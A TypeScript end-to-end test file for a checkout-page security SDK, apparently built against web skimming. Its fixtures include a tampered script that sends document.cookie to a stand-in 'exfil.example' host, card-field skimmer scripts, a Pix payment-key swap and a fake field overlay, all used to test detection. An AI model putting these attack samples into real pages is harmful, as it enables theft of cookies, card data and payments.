import { createHash } from 'node:crypto';
import type { Page } from 'puppeteer-core';
import { eventually, freePort, sri } from '@pss/testkit';
import { SightingsFlusher } from '@pss/api-gateway/src/sdk/intake/sightings-flusher';
import { hashRecipientKey } from '@pss/inventory/src/stores/recipient-key';
import { VENDOR_HOST } from './fixture-server';
import { describeInChromium, serviceInChromium, WAIT } from './service-in-chromium';
import { urlTag } from '@pss/sdk-contract';


/** A BR Code ("Pix copia e cola") carrying `key`, as a bank app would show it. */
function brCode(key: string): string {
  const field = (id: string, value: string) => `${id}${String(value.length).padStart(2, '0')}${value}`;
  return field('00', '01') + field('26', field('00', 'br.gov.bcb.pix') + field('01', key)) + field('52', '0000') + field('53', '986') + field('58', 'BR') + field('59', 'LOJA') + field('60', 'SAO PAULO') + '6304ABCD';
}

describeInChromium('the browser SDK in Chromium, against the running service', () => {
  const rig = serviceInChromium(['stores:read', 'stores:write', 'scripts:read', 'scripts:review', 'alerts:read']);
  const { scripts, alerts, scriptsUntil, alertsUntil, visit, synchronousTag } = rig;

  const createStore = async (body: Record<string, unknown> = {}) => {
    const store = await rig.service.createStore(rig.token, body);
    expect(store.snippets?.html).toContain(`${rig.api}/sdk/v1/sdk.js?key=${store.sdk_key}`);
    return store;
  };
  const bySrc = (list: any[], fragment: string) => list.find((script) => script.src.includes(fragment));

  // Read from the page's own resource timing: puppeteer's 'request' event once missed the config fetch under load.
  const askedConfig = (page: Page): Promise<boolean> =>
    page.evaluate((prefix) => performance.getEntriesByType('resource').some((entry) => entry.name.startsWith(prefix)), `${rig.api}/sdk/v1/config?`);

  /** A checkout page as a shop writes it: the `html` snippet first in <head>, then everything else. */
  const checkout = (snippet: string, head: string, body = '') =>
    `<!doctype html><html><head>${snippet}${head}</head><body><form id="pay"><input id="cc" name="cardnumber" autocomplete="cc-number" value="4111111111111111"></form>${body}</body></html>`;

  it('lists every script of a checkout page, classified and hashed, within seconds of a page view', async () => {
    const { fixtures } = rig;
    const store = await createStore();
    const p = '/main';
    fixtures.script(`${p}/app.js`, 'window.appRan = true;');
    fixtures.script(`${p}/module.js`, 'window.moduleRan = true;');
    fixtures.script(`${p}/async.js`, 'window.asyncRan = true;');
    fixtures.script(`${p}/cors.js`, 'window.corsRan = true;', { cors: true });
    fixtures.script(`${p}/nocors.js`, 'window.nocorsRan = true;');
    fixtures.script(`${p}/pinned.js`, 'window.pinnedRan = true;');
    fixtures.script(`${p}/wrong-sri.js`, 'window.wrongSriRan = true;', { cors: true });
    fixtures.script(`${p}/dynamic.js`, 'window.dynamicRan = true;', { cors: true });
    fixtures.script(`${p}/gtm.js`, `(function(){var s=document.createElement('script');s.src='${fixtures.url(`${p}/tag.js`, 'other')}';document.head.appendChild(s);})();`);
    fixtures.script(`${p}/tag.js`, 'window.tagRan = true;', { cors: true });
    const inline = 'window.dataLayer = window.dataLayer || [];';
    const url = fixtures.page(
      `${p}/checkout`,
      checkout(
        synchronousTag(store),
        `<script src="${p}/app.js"></script>
         <script type="module" src="${p}/module.js"></script>
         <script async src="${p}/async.js"></script>
         <script defer src="${fixtures.url(`${p}/cors.js`, 'other')}" crossorigin="anonymous"></script>
         <script src="${fixtures.url(`${p}/nocors.js`, 'other')}"></script>
         <script src="${fixtures.url(`${p}/pinned.js`, 'other')}" integrity="${sri('something else')}"></script>
         <script src="${fixtures.url(`${p}/wrong-sri.js`, 'other')}" integrity="${sri('not this content')}" crossorigin="anonymous"></script>
         <script>${inline}</script>
         <script src="${fixtures.url(`${p}/gtm.js?id=GTM-TEST1`, 'other')}"></script>`,
        `<script>var d=document.createElement('script');d.crossOrigin='anonymous';d.src='${fixtures.url(`${p}/dynamic.js`, 'other')}';document.body.appendChild(d);</script>`,
      ),
    );
    const { page, errors } = await visit(url);
    const list = await scriptsUntil(store.id, (found) => found.length >= 12);
    // A monitor-mode page view starts from the config served inside sdk.js: nothing is asked for first.
    expect(await askedConfig(page)).toBe(false);
    const external = ['app.js', 'async.js', 'module.js'].map((name) => fixtures.url(`${p}/${name}`));
    const other = ['cors.js', 'dynamic.js', 'gtm.js?id=GTM-TEST1', 'nocors.js', 'pinned.js', 'tag.js', 'wrong-sri.js'].map((name) => fixtures.url(`${p}/${name}`, 'other'));
    expect(list.filter((s) => !s.src.startsWith('inline:')).map((s) => s.src).sort()).toEqual([...external, ...other]);
    expect(list.filter((s) => s.src.startsWith('inline:'))).toHaveLength(2); // the dataLayer and the script that inserts dynamic.js

    const own = (path: string) => createHash('sha384').update(`window.${path};`).digest('base64');
    expect(bySrc(list, `${p}/app.js`)).toMatchObject({ type: 'unknown', status: 'needs_review', current_hash: `sha384-${own('appRan = true')}`, hash_source: 'sdk', size_bytes: 21 });
    expect(bySrc(list, `${p}/module.js`)).toMatchObject({ current_hash: `sha384-${own('moduleRan = true')}`, hash_source: 'sdk' });
    expect(bySrc(list, `${p}/async.js`).hash_source).toBe('sdk');
    expect(bySrc(list, `${p}/cors.js`)).toMatchObject({ current_hash: `sha384-${own('corsRan = true')}`, hash_source: 'sdk', integrity_attr: false });
    // No CORS: the browser does not show the bytes; the integrity attribute is the hash when there is one.
    expect(bySrc(list, `${p}/nocors.js`)).toMatchObject({ current_hash: null, integrity_status: 'pending' });
    expect(bySrc(list, `${p}/pinned.js`)).toMatchObject({ current_hash: sri('something else'), hash_source: 'sri', integrity_attr: true });
    // A wrong SRI: the browser refused to run it, the inventory shows what is really served.
    expect(bySrc(list, `${p}/wrong-sri.js`)).toMatchObject({ current_hash: `sha384-${own('wrongSriRan = true')}`, hash_source: 'sdk', integrity_attr: true });
    expect(bySrc(list, `inline:${sri(inline)}`)).toMatchObject({ type: 'first_party', current_hash: sri(inline), hash_source: 'sdk' });
    expect(bySrc(list, `${p}/gtm.js`)).toMatchObject({ gtm_container: 'GTM-TEST1' });
    // Inserted without crossorigin: its load showed nothing of its CORS headers, so it is not re-fetched (no hash).
    expect(bySrc(list, `${p}/tag.js`)).toMatchObject({ gtm_container: 'GTM-TEST1', current_hash: null });
    expect(bySrc(list, `${p}/dynamic.js`).hash_source).toBe('sdk');
    for (const script of list) expect(script.type).not.toBeNull();

    expect(await page.evaluate('[!!window.appRan, !!window.moduleRan, !!window.corsRan, !!window.tagRan, !!window.dynamicRan, !!window.wrongSriRan]')).toEqual([true, true, true, true, true, false]);
    expect(errors).toEqual([]);
    await page.close();
  }, 60_000);

  it('where resource timing has no responseStatus, stops re-fetching a crossorigin script whose CORS the service saw refused, once the keyed sdk.js lists it', async () => {
    const { service, fixtures, browser } = rig;
    const store = await createStore();
    fixtures.script('/refused/nocors.js', 'window.nocorsRan = true;');
    fixtures.script('/refused/cors.js', 'window.corsRan = true;', { cors: true });
    const [nocors, cors] = [fixtures.url('/refused/nocors.js', 'other'), fixtures.url('/refused/cors.js', 'other')];
    const url = fixtures.page('/refused/checkout', checkout(store.snippets.html, `<script src="${nocors}" crossorigin="anonymous"></script><script src="${cors}" crossorigin="anonymous"></script>`));
    /**
     * The SDK's own re-fetches for hashing (the parser's loads are not `fetch`), in a view with no 1-in-20 retry, in
     * a browser that does not tell from resource timing whether a load passed CORS (Safari): `crossorigin` decides.
     */
    const refetched = async () => {
      const page = await (await browser.createBrowserContext()).newPage();
      await page.evaluateOnNewDocument('Math.random = function () { return 0.5; }; delete PerformanceResourceTiming.prototype.responseStatus;');
      const fetched: string[] = [];
      const batches: string[] = [];
      page.on('request', (request) => {
        if (request.url().includes('/sdk/v1/events')) batches.push(request.postData() ?? '');
        else if (request.resourceType() === 'fetch') fetched.push(request.url());
      });
      await page.goto(url, { waitUntil: 'load' });
      await eventually(async () => fetched, (list) => list.includes(cors), WAIT);
      // the batch with the re-fetched script left before the context closes (closing it sends no pagehide batch)
      await eventually(async () => batches, (bodies) => bodies.some((body) => body.includes('refused/cors.js')), WAIT);
      await page.browserContext().close();
      return fetched;
    };

    expect(await refetched()).toEqual(expect.arrayContaining([nocors, cors]));
    const list = await scriptsUntil(store.id, (found) => !!bySrc(found, 'nocors.js') && !!bySrc(found, 'refused/cors.js'));
    expect(bySrc(list, 'nocors.js')).toMatchObject({ current_hash: null, integrity_status: 'pending' });
    // The keyed script is rebuilt on the new script's fact; a new browser context does not have it cached.
    const keyed = async () => (await service.request('GET', `/sdk/v1/sdk.js?key=${store.sdk_key}`)).text;
    await eventually(keyed, (text) => text.includes(`"cors_refused":["${urlTag(nocors)}"]`), { timeoutMs: 25_000, intervalMs: 500 });

    const later = await refetched();
    expect(later).toContain(cors);
    expect(later).not.toContain(nocors);
  }, 60_000);

  it('opens SCRIPT_INTEGRITY_MISMATCH when an authorized script changes content', async () => {
    const { service, fixtures, token } = rig;
    const store = await createStore();
    fixtures.script('/integrity/vendor.js', 'window.vendor = 1;', { cors: true });
    const url = fixtures.page('/integrity/checkout', checkout(store.snippets.html, `<script src="${fixtures.url('/integrity/vendor.js', 'other')}" crossorigin="anonymous"></script>`));
    const first = await visit(url);
    const [vendor] = await scriptsUntil(store.id, (list) => list.some((s) => s.current_hash === sri('window.vendor = 1;')));
    const authorized = await service.request('POST', `/api/v1/scripts/${vendor.id}/authorize`, { token, body: { justification: 'Payment widget, reviewed' } });
    expect(authorized.body).toMatchObject({ status: 'authorized', integrity_status: 'match' });
    await first.page.close();

    // The next page view loads the copy a shop pins with integrity: it carries no config and asks for it.
    fixtures.script('/integrity/vendor.js', 'window.vendor = 1; fetch("https://exfil.example/?c=" + document.cookie);', { cors: true });
    const { sdk } = (await service.request('GET', `/sdk/v1/config?key=${store.sdk_key}`)).body;
    const pinnedSnippet = `<script src="${sdk.url}?key=${store.sdk_key}" integrity="${sdk.integrity}" crossorigin="anonymous"></script>`;
    const pinned = fixtures.page('/integrity/pinned-checkout', checkout(pinnedSnippet, `<script src="${fixtures.url('/integrity/vendor.js', 'other')}" crossorigin="anonymous"></script>`));
    const second = await visit(pinned);
    const alerts = await alertsUntil(store.id, (list) => list.some((a) => a.type === 'SCRIPT_INTEGRITY_MISMATCH'));
    const alert = alerts.find((a) => a.type === 'SCRIPT_INTEGRITY_MISMATCH');
    expect(alert).toMatchObject({ type: 'SCRIPT_INTEGRITY_MISMATCH', severity: 'high', source: vendor.src, details: expect.objectContaining({ authorized_hash: sri('window.vendor = 1;') }) });
    expect((await service.request('GET', `/api/v1/scripts/${vendor.id}`, { token })).body.integrity_status).toBe('mismatch');
    expect(await askedConfig(second.page)).toBe(true);
    await second.page.close();
  }, 60_000);

  it('names the script that reads the card field, and never sends the value', async () => {
    const { fixtures, browser } = rig;
    const store = await createStore();
    fixtures.script('/fields/skimmer.js', 'setTimeout(function () { window.stolen = document.getElementById("cc").value; }, 50);', { cors: true });
    const sent: string[] = [];
    const url = fixtures.page('/fields/checkout', checkout(synchronousTag(store), `<script src="${fixtures.url('/fields/skimmer.js', 'other')}"></script>`));
    const context = await browser.createBrowserContext();
    const page = await context.newPage();
    page.on('request', (request) => request.url().includes('/sdk/v1/events') && sent.push(request.postData() ?? ''));
    await page.goto(url, { waitUntil: 'load' });
    const [alert] = await alertsUntil(store.id, (list) => list.some((a) => a.type === 'SENSITIVE_FIELD_ACCESS'));
    expect(alert).toMatchObject({ source: fixtures.url('/fields/skimmer.js', 'other'), details: expect.objectContaining({ field: 'card_number' }) });
    expect(bySrc(await scripts(store.id), 'skimmer.js').status).toBe('suspicious');
    expect(await page.evaluate('window.stolen')).toBe('4111111111111111'); // the page works as before
    await eventually(async () => sent, (bodies) => bodies.length > 0, WAIT); // CDP may report the request late
    for (const body of sent) expect(body).not.toContain('4111111111111111');
    await context.close();
  }, 60_000);

  it('reports an iframe outside expected_iframe_origins', async () => {
    const { fixtures } = rig;
    const store = await createStore({ expected_iframe_origins: ['pagseguro.com.br'] });
    fixtures.page('/iframes/frame.html', '<p>not a payment form</p>');
    const url = fixtures.page('/iframes/checkout', checkout(store.snippets.html, '', `<iframe src="${fixtures.url('/iframes/frame.html', 'other')}"></iframe>`));
    const { page } = await visit(url);
    const [alert] = await alertsUntil(store.id, (list) => list.some((a) => a.type === 'UNEXPECTED_IFRAME'));
    expect(alert).toMatchObject({ severity: 'high', details: expect.objectContaining({ host: 'localhost', expected: ['pagseguro.com.br'] }) });
    await page.close();
  }, 60_000);

  it('catches a Pix key swapped after load, from its hash only', async () => {
    const { fixtures, browser } = rig;
    const pinned = 'Pagamentos@Loja.com.br';
    const swapped = 'golpista@example.com';
    const store = await createStore({ payment_methods: ['pix'], recipients: [{ method: 'pix', key: pinned, label: 'Conta da loja' }], overlay_check_interval_ms: 500 });
    const url = fixtures.page(
      '/pix/checkout',
      checkout(
        store.snippets.html,
        '',
        `<p>Pix: <span data-pss-recipient="pix">${pinned}</span></p><textarea id="copia" readonly>${brCode(pinned.toLowerCase())}</textarea>
         <script>setTimeout(function () { document.getElementById('copia').value = ${JSON.stringify(brCode(swapped))}; }, 1500);</script>`,
      ),
    );
    const sent: string[] = [];
    const context = await browser.createBrowserContext();
    const page = await context.newPage();
    page.on('request', (request) => request.url().includes('/sdk/v1/events') && sent.push(request.postData() ?? ''));
    await page.goto(url, { waitUntil: 'load' });
    const [alert] = await alertsUntil(store.id, (list) => list.some((a) => a.type === 'RECIPIENT_MISMATCH'));
    expect(alert).toMatchObject({ severity: 'critical', source: 'pix', details: expect.objectContaining({ method: 'pix', key_hash: hashRecipientKey(swapped) }) });
    expect(await alerts(store.id)).toHaveLength(1); // the pinned key, shown twice, matched
    for (const body of sent) expect(body).not.toMatch(/golpista|pagamentos/i);
    await context.close();
  }, 60_000);

  it('follows an SPA to its checkout: scripts it inserts are seen, on the checkout URL', async () => {
    const { fixtures, browser } = rig;
    const store = await createStore();
    fixtures.script('/spa/checkout-widget.js', 'window.widget = true;', { cors: true });
    const url = fixtures.page(
      '/spa/',
      checkout(
        store.snippets.html,
        '',
        `<script>function go() { history.pushState({}, '', '/spa/checkout'); var s = document.createElement('script'); s.crossOrigin = 'anonymous'; s.src = '${fixtures.url('/spa/checkout-widget.js', 'other')}'; document.head.appendChild(s); }</script>`,
      ),
    );
    const context = await browser.createBrowserContext();
    const page = await context.newPage();
    const batches: any[] = [];
    page.on('request', (request) => request.url().includes('/sdk/v1/events') && batches.push(JSON.parse(request.postData() ?? '{}')));
    await page.goto(url, { waitUntil: 'load' });
    await page.evaluate('go()');
    const list = await scriptsUntil(store.id, (found) => found.some((s) => s.src.includes('checkout-widget.js')));
    expect(bySrc(list, 'checkout-widget.js')).toMatchObject({ hash_source: 'sdk', current_hash: sri('window.widget = true;') });
    // puppeteer reports a request over CDP, which may come after the service has already listed what it carried
    const carrying = await eventually(
      () => batches.find((batch) => JSON.stringify(batch.observations ?? []).includes('checkout-widget.js')),
      (batch) => batch !== undefined,
      WAIT,
    );
    expect(carrying.page_url).toBe(fixtures.url('/spa/checkout'));
    await context.close();
  }, 60_000);

  it("turns a Report-Only CSP's browser reports into CSP_VIOLATION alerts and sightings, with or without the SDK", async () => {
    const { fixtures, api } = rig;
    const store = await createStore();
    fixtures.script('/csp/tracker.js', 'window.tracker = true;');
    const policy = `script-src 'self' 'unsafe-inline' ${api}; report-uri ${api}/sdk/v1/csp?key=${store.sdk_key}`;
    const tracker = fixtures.url('/csp/tracker.js', 'other');
    const bare = fixtures.page('/csp/no-sdk', `<!doctype html><html><head><script src="${tracker}"></script></head><body>ok</body></html>`, {
      'Content-Security-Policy-Report-Only': policy,
    });
    const { page } = await visit(bare);
    const list = await scriptsUntil(store.id, (found) => found.some((s) => s.src === tracker));
    expect(bySrc(list, 'tracker.js')).toMatchObject({ current_hash: null, integrity_status: 'pending' });
    const found = await alertsUntil(store.id, (list) => list.some((a) => a.type === 'CSP_VIOLATION'));
    expect(found).toEqual([expect.objectContaining({ type: 'CSP_VIOLATION', source: tracker, details: expect.objectContaining({ blocked_uri: tracker }) })]);
    await page.close();

    const withSdk = await createStore();
    // The SDK's listener hears what happens after it starts: the synchronous tag, since the tracker comes next.
    const url = fixtures.page('/csp/with-sdk', checkout(synchronousTag(withSdk), `<script src="${tracker}"></script>`), {
      'Content-Security-Policy-Report-Only': `script-src 'self' 'unsafe-inline' ${api}`,
    });
    const second = await visit(url);
    const fromSdk = await alertsUntil(withSdk.id, (list) => list.some((a) => a.type === 'CSP_VIOLATION'));
    // the SDK's own worker (a blob: URL this policy reports) is not the shop's problem: only the tracker shows
    expect(fromSdk.map((a) => a.source)).toEqual([tracker]);
    await second.page.close();
  }, 60_000);

  it("runs the SDK's own checks: installation order, an unapproved tag-manager container, an overlay, selectors from sensitive_fields", async () => {
    const { fixtures } = rig;
    const store = await createStore({ gtm_containers: ['GTM-APPROVED'], sensitive_fields: ['#holder-doc'], overlay_check_interval_ms: 500 });
    fixtures.script('/checks/early.js', 'window.early = true;');
    fixtures.script('/checks/gtm.js', 'window.gtm = true;');
    fixtures.script('/checks/reader.js', 'setTimeout(function () { window.doc = document.getElementById("holder-doc").value; }, 50);', { cors: true });
    const url = fixtures.page(
      '/checks/checkout',
      `<!doctype html><html><head><script src="/checks/early.js"></script>${synchronousTag(store)}
       <script src="${fixtures.url('/checks/gtm.js?id=GTM-ROGUE9', 'other')}"></script>
       <script src="${fixtures.url('/checks/reader.js', 'other')}"></script></head>
       <body><form><input id="cc" name="cardnumber" autocomplete="cc-number" style="position:absolute;top:10px;left:10px;width:200px;height:30px">
       <input id="holder-doc" value="123.456.789-09" style="position:absolute;top:20px;left:250px;width:100px;height:20px"></form>
       <script>setTimeout(function () { var d = document.createElement('div'); d.id = 'fake-field';
         d.style.cssText = 'position:absolute;top:0;left:0;width:400px;height:60px;background:#fff;z-index:10'; document.body.appendChild(d); }, 300);</script>
       </body></html>`,
    );
    const { page, errors } = await visit(url);
    const found = await alertsUntil(store.id, (list) =>
      ['pss-installation-order', 'pss-gtm-container', 'pss-overlay'].every((directive) => list.some((a) => a.details?.directive === directive)) &&
      list.some((a) => a.details?.directive === 'pss-overlay' && a.source === 'div#fake-field') &&
      list.some((a) => a.type === 'SENSITIVE_FIELD_ACCESS'),
    );
    const check = (directive: string) => found.find((a) => a.details?.directive === directive);
    expect(check('pss-installation-order')).toMatchObject({ type: 'CSP_VIOLATION', source: fixtures.url('/checks/early.js') });
    expect(check('pss-gtm-container')).toMatchObject({ source: 'GTM-ROGUE9' });
    // nothing covered a field before the fake one was drawn over both
    expect(found.filter((a) => a.details?.directive === 'pss-overlay').map((a) => a.source)).toEqual(['div#fake-field']);
    expect(found.find((a) => a.type === 'SENSITIVE_FIELD_ACCESS')).toMatchObject({ source: fixtures.url('/checks/reader.js', 'other'), details: expect.objectContaining({ field: '#holder-doc' }) });
    expect(errors).toEqual([]);
    await page.close();
  }, 60_000);

  it('in block mode, stops a blocked script on the next page view, and reports the attempt', async () => {
    const { service, fixtures, browser, token } = rig;
    const store = await createStore({ mode: 'block' });
    fixtures.script('/block/own.js', 'window.ownRan = true;');
    fixtures.script('/block/widget.js', 'window.widgetRan = true;');
    fixtures.script('/block/parsed.js', 'window.parsedRan = true;');
    const widget = fixtures.url('/block/widget.js', 'vendor');
    const url = fixtures.page(
      '/block/checkout',
      checkout(
        synchronousTag(store),
        `<script src="/block/own.js"></script>`,
        // a tag manager inserts the widget once the page has loaded; another script of that host is in the HTML
        `<script>addEventListener('load', function () { var w = document.createElement('script'); w.src = '${widget}'; w.onerror = function () { window.widgetFailed = true; }; document.body.appendChild(w); });</script>
         <script src="${fixtures.url('/block/parsed.js', 'vendor')}"></script>`,
      ),
    );
    const ran = async (page: Page) => page.evaluate('({ own: !!window.ownRan, widget: !!window.widgetRan, failed: !!window.widgetFailed, parsed: !!window.parsedRan })');
    const context = await browser.createBrowserContext();
    const first = await visit(url, { context });
    await first.page.waitForFunction('window.widgetRan === true');
    expect(await ran(first.page)).toEqual({ own: true, widget: true, failed: false, parsed: true });
    const seen = await scriptsUntil(store.id, (list) => list.some((s) => s.src === widget));
    const blocked = await service.request('POST', `/api/v1/scripts/${bySrc(seen, 'widget.js').id}/block`, { token, body: { justification: 'Unknown widget on the checkout' } });
    expect(blocked.body).toMatchObject({ rule: { target: 'domain', value: VENDOR_HOST, active: true } });
    await first.page.close();

    // The next page view: the fresh config (asked for first thing) stops the widget before it runs.
    const second = await visit(url, { context });
    await second.page.waitForFunction('window.widgetFailed === true');
    expect(await ran(second.page)).toMatchObject({ own: true, widget: false, failed: true });
    expect(second.errors).toEqual([]);
    const before = bySrc(seen, 'widget.js').sightings;
    const after = await eventually(
      async () => {
        await service.app.get(SightingsFlusher).run();
        return bySrc(await scripts(store.id), 'widget.js');
      },
      (script) => script.sightings > before,
      WAIT,
    );
    expect(after).toMatchObject({ status: 'blocked', integrity_status: 'blocked' });
    await second.page.close();

    // With the rule known from the start (kept from the last page view), a script in the HTML after the SDK is
    // stopped too; one the parser reached before the config came may still have run on the view before.
    const third = await visit(url, { context });
    await third.page.waitForFunction('window.widgetFailed === true');
    expect(await ran(third.page)).toEqual({ own: true, widget: false, failed: true, parsed: false });
    expect(third.errors).toEqual([]);
    await third.page.close();

    // Authorized after all: the widget runs again on the next page view; the host's other script stays blocked.
    const authorized = await service.request('POST', `/api/v1/scripts/${bySrc(seen, 'widget.js').id}/authorize`, { token, body: { justification: 'The widget is ours after all' } });
    expect(authorized.body).toMatchObject({ status: 'authorized' });
    const fourth = await visit(url, { context });
    await fourth.page.waitForFunction('window.widgetRan === true');
    expect(await ran(fourth.page)).toEqual({ own: true, widget: true, failed: false, parsed: false });
    await context.close();
  }, 60_000);

  it('in developer mode observes nothing and only tells the service it is there (a heartbeat, not monitoring evidence)', async () => {
    const { service, fixtures, browser, token } = rig;
    const store = await createStore({ developer_mode: true });
    fixtures.script('/dev/skimmer.js', 'setTimeout(function () { window.read = document.getElementById("cc").value; }, 50);', { cors: true });
    const url = fixtures.page('/dev/checkout', checkout(store.snippets.html, `<script src="${fixtures.url('/dev/skimmer.js', 'other')}"></script>`));
    const context = await browser.createBrowserContext();
    const page = await context.newPage();
    const batches: any[] = [];
    const answers: number[] = [];
    page.on('request', (request) => request.url().includes('/sdk/v1/events') && batches.push(JSON.parse(request.postData() ?? '{}')));
    page.on('response', (response) => response.url().includes('/sdk/v1/events') && answers.push(response.status()));
    await page.goto(url, { waitUntil: 'load' });
    await eventually(async () => answers, (statuses) => statuses.length > 0, WAIT); // the heartbeat, as the SDK starts
    await page.goto('about:blank'); // pagehide: a running SDK would flush here
    expect(answers.every((status) => status === 202)).toBe(true);
    for (const batch of batches) expect(batch.observations).toEqual([]);
    await service.app.get(SightingsFlusher).run();
    // a batch without script observations is no page view: it proves nothing was monitored (docs/sdk.md, issue 29)
    const status = (await service.request('GET', `/api/v1/stores/${store.id}/status`, { token })).body;
    expect(status.sdk).toMatchObject({ installed: false, paused: true });
    expect(await scripts(store.id)).toEqual([]);
    await context.close();
  }, 60_000);

  it('fails open: with the service down the checkout works as if the SDK were absent', async () => {
    const { service, fixtures, api } = rig;
    const store = await createStore();
    const down = `http://127.0.0.1:${await freePort()}`;
    const sdk = (await service.request('GET', '/sdk/v1/sdk.js')).text;
    fixtures.script('/down/sdk.js', sdk);
    fixtures.script('/down/app.js', 'window.appRan = document.getElementById("cc").value.length > 0;');
    const pages = [
      // the SDK itself cannot be fetched (the snippet as pasted, pointing at a dead host)
      store.snippets.html.split(api).join(down),
      // the SDK loads (from a CDN, say) but the service it reports to is down
      `<script src="${fixtures.url('/down/sdk.js')}?key=${store.sdk_key}" data-endpoint="${down}/sdk/v1/"></script>`,
    ];
    for (const [index, snippet] of pages.entries()) {
      const url = fixtures.page(`/down/checkout-${index}`, checkout(snippet, '', '<script src="/down/app.js"></script><script>window.inlineRan = true;</script>'));
      const { page, errors } = await visit(url);
      await page.type('#cc', '1');
      expect(await page.evaluate('[!!window.appRan, !!window.inlineRan, document.getElementById("cc").value]')).toEqual([true, true, '14111111111111111']);
      expect(errors).toEqual([]);
      await page.close();
    }
  }, 60_000);
});
